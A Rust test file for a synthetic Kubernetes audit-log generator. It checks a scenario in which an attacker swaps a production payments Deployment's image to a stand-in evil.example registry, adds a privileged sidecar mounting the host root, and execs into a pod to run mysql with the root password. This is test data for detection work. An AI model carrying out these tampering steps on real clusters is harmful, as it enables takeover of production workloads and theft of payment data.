//! The workload-tamper scenario: CI's legitimate update of the prod payments API's Deployment, then an
//! attacker's image swap by patch, an update adding a privileged sidecar, and a minutes-long database session
//! by exec with the password on the command line. The object history and exec sessions are tested on it.

use kubetrail_gen::{Config, Generator};
use serde_json::Value;

const DEPLOYMENT_URI: &str = "/apis/apps/v1/namespaces/prod-payments/deployments/payments-api";
const CI_USER: &str = "system:serviceaccount:ci:deployer";
const ATTACKER_IP: &str = "198.51.100.77";
const PATCH: &str = r#"{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"evil.example/payments/api:v1.42.3"}]}}}}"#;

/// One line as generated, with whether the generator counts it as an attack's.
struct Line {
    v: Value,
    raw: String,
    attack: bool,
}

impl Line {
    fn ts(&self, key: &str) -> jiff::Timestamp {
        self.v[key].as_str().unwrap().parse().unwrap()
    }

    fn user(&self) -> &str {
        self.v["user"]["username"].as_str().unwrap()
    }
}

/// The lines about the prod-payments namespace, checking on the way that every line's stageTimestamp is
/// in order. At two events a second (the default for these tests) a scenario of up to half an hour is a few
/// thousand lines, and every scenario has run after 60,000.
fn generate_at(stages: bool, seed: u64, rate: f64, n: usize) -> Vec<Line> {
    let mut g = Generator::new(Config {
        rate,
        attacks: true,
        stages,
        seed,
        ..Config::default()
    });
    let mut last = String::new();
    let mut out = Vec::new();
    for _ in 0..n {
        let raw = g.next().unwrap();
        let at = raw.find(r#""stageTimestamp":""#).unwrap() + 18;
        let ts = &raw[at..at + 27];
        assert!(last.as_str() <= ts, "{ts} after {last}");
        last = ts.to_string();
        if raw.contains("prod-payments") {
            out.push(Line {
                v: serde_json::from_str(&raw).unwrap(),
                attack: g.last_was_attack(),
                raw,
            });
        }
    }
    out
}

fn generate(stages: bool, seed: u64) -> Vec<Line> {
    generate_at(stages, seed, 2.0, 60_000)
}

fn complete(lines: &[Line]) -> impl Iterator<Item = &Line> {
    lines.iter().filter(|l| l.v["stage"] == "ResponseComplete")
}

/// The first run of the scenario: (CI's update, the patch, the attacker's update, the exec).
fn find(lines: &[Line]) -> (&Line, &Line, &Line, &Line) {
    let ci = complete(lines)
        .find(|l| {
            l.v["verb"] == "update"
                && l.user() == CI_USER
                && l.v["requestURI"]
                    .as_str()
                    .unwrap()
                    .starts_with(DEPLOYMENT_URI)
        })
        .expect("CI's update of deployments/payments-api");
    let after = |l: &&Line| l.ts("stageTimestamp") > ci.ts("stageTimestamp");
    let patch = complete(lines)
        .filter(after)
        .find(|l| l.v["verb"] == "patch" && l.v["sourceIPs"][0] == ATTACKER_IP)
        .expect("the image swap");
    let update = complete(lines)
        .filter(after)
        .find(|l| l.v["verb"] == "update" && l.v["sourceIPs"][0] == ATTACKER_IP)
        .expect("the sidecar");
    let exec = complete(lines)
        .filter(after)
        .find(|l| {
            l.v["objectRef"]["subresource"] == "exec"
                && l.v["requestURI"]
                    .as_str()
                    .unwrap()
                    .contains("command=mysql")
        })
        .expect("the database session");
    (ci, patch, update, exec)
}

fn minutes(a: jiff::Timestamp, b: jiff::Timestamp) -> f64 {
    b.duration_since(a).as_secs_f64() / 60.0
}

#[test]
fn ci_update_then_image_swap_then_privileged_sidecar_then_a_database_session() {
    let lines = generate(false, 1);
    let (ci, patch, update, exec) = find(&lines);

    // CI's update: legitimate (not counted as an attack's), the full manifest and the stored object.
    assert!(!ci.attack, "{}", ci.raw);
    assert_eq!(ci.v["level"], "RequestResponse");
    assert_eq!(ci.v["responseStatus"]["code"], 200);
    assert_eq!(
        ci.v["requestURI"],
        format!("{DEPLOYMENT_URI}?fieldManager=kubectl-replace&fieldValidation=Strict")
    );
    assert_eq!(ci.v["objectRef"]["apiGroup"], "apps");
    assert_eq!(ci.v["objectRef"]["apiVersion"], "v1");
    let req = &ci.v["requestObject"];
    assert_eq!(req["kind"], "Deployment");
    assert_eq!(req["apiVersion"], "apps/v1");
    assert_eq!(req["metadata"]["name"], "payments-api");
    assert_eq!(req["metadata"]["namespace"], "prod-payments");
    assert!(req["metadata"]["uid"].is_null());
    assert_eq!(
        req["spec"]["selector"]["matchLabels"]["app.kubernetes.io/name"],
        "payments-api"
    );
    assert!(req["spec"]["replicas"].as_i64().unwrap() >= 1);
    let containers = req["spec"]["template"]["spec"]["containers"]
        .as_array()
        .unwrap();
    assert_eq!(containers.len(), 1);
    assert_eq!(containers[0]["name"], "app");
    assert_eq!(
        containers[0]["image"],
        "registry.example.com/payments/api:v1.42.3"
    );
    let env = |c: &Value, name: &str| -> Value {
        c["env"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["name"] == name)
            .unwrap_or_else(|| panic!("{name}"))["value"]
            .clone()
    };
    assert_eq!(
        env(&containers[0], "DB_HOST"),
        "payments-db.prod-payments.svc.cluster.local"
    );
    let password = env(&containers[0], "DB_PASSWORD");
    assert!(
        password.as_str().is_some_and(|p| p.len() >= 8),
        "{password}"
    );
    assert!(containers[0]["resources"]["limits"]["memory"].is_string());
    assert_eq!(containers[0]["ports"][0]["containerPort"], 8080);
    let resp = &ci.v["responseObject"];
    assert_eq!(resp["spec"], req["spec"], "the stored spec is the one sent");
    let meta = &resp["metadata"];
    assert_eq!(meta["uid"].as_str().unwrap().len(), 36);
    let rv1: u64 = meta["resourceVersion"].as_str().unwrap().parse().unwrap();
    let generation1 = meta["generation"].as_i64().unwrap();
    assert!(meta["creationTimestamp"].is_string());
    assert!(resp["status"]["observedGeneration"].is_i64());

    // The image swap, minutes later, from outside.
    assert!(patch.attack);
    assert!(
        minutes(
            ci.ts("stageTimestamp"),
            patch.ts("requestReceivedTimestamp")
        ) >= 3.0
    );
    assert_eq!(patch.v["level"], "Request");
    assert_eq!(patch.v["responseStatus"]["code"], 200);
    assert_eq!(
        patch.v["requestURI"],
        format!("{DEPLOYMENT_URI}?fieldManager=kubectl-patch")
    );
    assert_eq!(patch.v["objectRef"]["name"], "payments-api");
    assert_eq!(patch.v["objectRef"]["namespace"], "prod-payments");
    assert_eq!(patch.v["objectRef"]["apiGroup"], "apps");
    assert_eq!(patch.v["objectRef"]["apiVersion"], "v1");
    assert!(patch.raw.contains(&format!(r#""requestObject":{PATCH}"#)));
    let attacker = patch.user();
    assert!(
        !attacker.starts_with("system:"),
        "a person's identity: {attacker}"
    );
    assert_eq!(patch.v["userAgent"], update.v["userAgent"]);

    // The update: the patched state plus a privileged sidecar, its resourceVersion after CI's.
    assert!(update.attack);
    assert_eq!(update.user(), attacker);
    assert!(update.ts("requestReceivedTimestamp") > patch.ts("stageTimestamp"));
    assert_eq!(update.v["level"], "Request");
    assert_eq!(update.v["responseStatus"]["code"], 200);
    assert!(
        update.v["requestURI"]
            .as_str()
            .unwrap()
            .starts_with(&format!("{DEPLOYMENT_URI}?"))
    );
    let body = &update.v["requestObject"];
    assert_eq!(body["metadata"]["uid"], meta["uid"]);
    let rv2: u64 = body["metadata"]["resourceVersion"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(rv2 > rv1, "{rv2} after {rv1}");
    assert_eq!(body["metadata"]["generation"], generation1 + 1);
    let containers = body["spec"]["template"]["spec"]["containers"]
        .as_array()
        .unwrap();
    assert_eq!(containers.len(), 2);
    assert_eq!(containers[0]["name"], "app");
    assert_eq!(containers[0]["image"], "evil.example/payments/api:v1.42.3");
    assert_eq!(env(&containers[0], "DB_PASSWORD"), password);
    assert_eq!(containers[1]["name"], "metrics-agent");
    assert_eq!(containers[1]["image"], "docker.io/library/alpine:3.19");
    assert_eq!(containers[1]["securityContext"]["privileged"], true);
    assert_eq!(containers[1]["volumeMounts"][0]["mountPath"], "/host");
    let volumes = body["spec"]["template"]["spec"]["volumes"]
        .as_array()
        .unwrap();
    assert!(volumes.iter().any(|v| v["hostPath"]["path"] == "/"));

    // The exec: into a payments-api pod, the password in the command, a session of minutes.
    assert!(exec.attack);
    assert_eq!(exec.user(), attacker);
    let pod = exec.v["objectRef"]["name"].as_str().unwrap();
    assert!(pod.starts_with("payments-api-"), "{pod}");
    assert_eq!(exec.v["objectRef"]["namespace"], "prod-payments");
    assert_eq!(exec.v["verb"], "create");
    assert_eq!(
        exec.v["requestURI"],
        format!(
            "/api/v1/namespaces/prod-payments/pods/{pod}/exec?command=mysql&command=-uroot&command=-pS3cr3t-Hunter2&command=payments&container=app&stdin=true&stdout=true&tty=true"
        )
    );
    assert_eq!(exec.v["responseStatus"]["code"], 101);
    let session = minutes(
        exec.ts("requestReceivedTimestamp"),
        exec.ts("stageTimestamp"),
    );
    assert!((2.0..=6.1).contains(&session), "{session} minutes");
    assert!(exec.ts("requestReceivedTimestamp") > update.ts("stageTimestamp"));
    let span = minutes(ci.ts("requestReceivedTimestamp"), exec.ts("stageTimestamp"));
    assert!(span < 30.0, "{span} minutes");

    // Nothing in a line says attack.
    for l in [ci, patch, update, exec] {
        assert!(!l.raw.to_lowercase().contains("attack"), "{}", l.raw);
    }
}

#[test]
fn with_stages_the_exec_session_opens_then_completes_minutes_later() {
    let lines = generate(true, 1);
    let (ci, patch, update, exec) = find(&lines);
    let id = exec.v["auditID"].as_str().unwrap();
    let stages: Vec<&Line> = lines.iter().filter(|l| l.v["auditID"] == id).collect();
    let names: Vec<&str> = stages
        .iter()
        .map(|l| l.v["stage"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["RequestReceived", "ResponseStarted", "ResponseComplete"]
    );
    assert!(stages.iter().all(|l| l.attack));
    assert!(stages[0].v["responseStatus"].is_null());
    assert_eq!(stages[1].v["responseStatus"]["code"], 101);
    let received = stages[0].ts("stageTimestamp");
    assert_eq!(received, exec.ts("requestReceivedTimestamp"));
    assert!(minutes(received, stages[1].ts("stageTimestamp")) < 0.01);
    assert!(minutes(received, stages[2].ts("stageTimestamp")) >= 2.0);
    assert!(received > update.ts("stageTimestamp"));
    // CI's update and the attacker's steps have a RequestReceived line too, of the same attack-ness.
    for l in [ci, patch, update] {
        let id = l.v["auditID"].as_str().unwrap();
        let first = lines.iter().find(|x| x.v["auditID"] == id).unwrap();
        assert_eq!(first.v["stage"], "RequestReceived");
        assert_eq!(first.attack, l.attack);
    }
}

/// The scenario's lines in time order: `C` CI's update, `P` the patch, `U` the attacker's update, `E` the
/// exec (when it completes); with the Deployment's generation for the updates.
fn story(lines: &[Line]) -> (String, Vec<i64>, std::collections::BTreeSet<String>) {
    let (mut seq, mut generations) = (String::new(), Vec::new());
    let mut uids = std::collections::BTreeSet::new();
    for l in complete(lines) {
        let uri = l.v["requestURI"].as_str().unwrap();
        let from_outside = l.v["sourceIPs"][0] == ATTACKER_IP;
        let mut stored = |obj: &Value| {
            generations.push(obj["metadata"]["generation"].as_i64().unwrap());
            uids.insert(obj["metadata"]["uid"].as_str().unwrap().to_string());
        };
        if uri.starts_with(&format!("{DEPLOYMENT_URI}?")) {
            match (l.v["verb"].as_str().unwrap(), from_outside) {
                ("update", false) if l.user() == CI_USER => {
                    assert!(!l.attack, "CI's update is no attack's: {}", l.raw);
                    stored(&l.v["responseObject"]);
                    seq.push('C');
                }
                ("patch", true) => seq.push('P'),
                ("update", true) => {
                    stored(&l.v["requestObject"]);
                    seq.push('U');
                }
                _ => {}
            }
        } else if uri.contains("command=mysql") {
            seq.push('E');
        }
    }
    (seq, generations, uids)
}

/// It starts with the first cycle of scenarios: the console's browser test (20,000 events at 3 a second,
/// seed 1) holds a whole run.
#[test]
fn the_console_test_traffic_holds_a_whole_run() {
    let (seq, _, _) = story(&generate_at(false, 1, 3.0, 20_000));
    assert!(seq.starts_with("CPUE"), "{seq}");
}

#[test]
fn runs_come_back_whole_and_the_deployment_only_moves_forward() {
    // Slow: a run every cycle of scenarios. Fast (100/s, a cycle of scenarios in about five minutes, 250,000 events in 42): a run
    // waits for the last to end, never interleaved with it.
    for (seed, rate, n) in [(3, 2.0, 60_000), (1, 100.0, 250_000)] {
        let lines = generate_at(false, seed, rate, n);
        let (seq, generations, uids) = story(&lines);
        assert!(seq.starts_with("CPUECPUE"), "{seed} at {rate}/s: {seq}");
        assert!(
            seq.as_bytes()
                .chunks(4)
                .all(|c| c == b"CPUE" || b"CPUE".starts_with(c)),
            "{seq}"
        );
        assert!(
            generations.windows(2).all(|w| w[0] < w[1]),
            "{generations:?}"
        );
        assert_eq!(uids.len(), 1, "one Deployment: {uids:?}");
    }
}
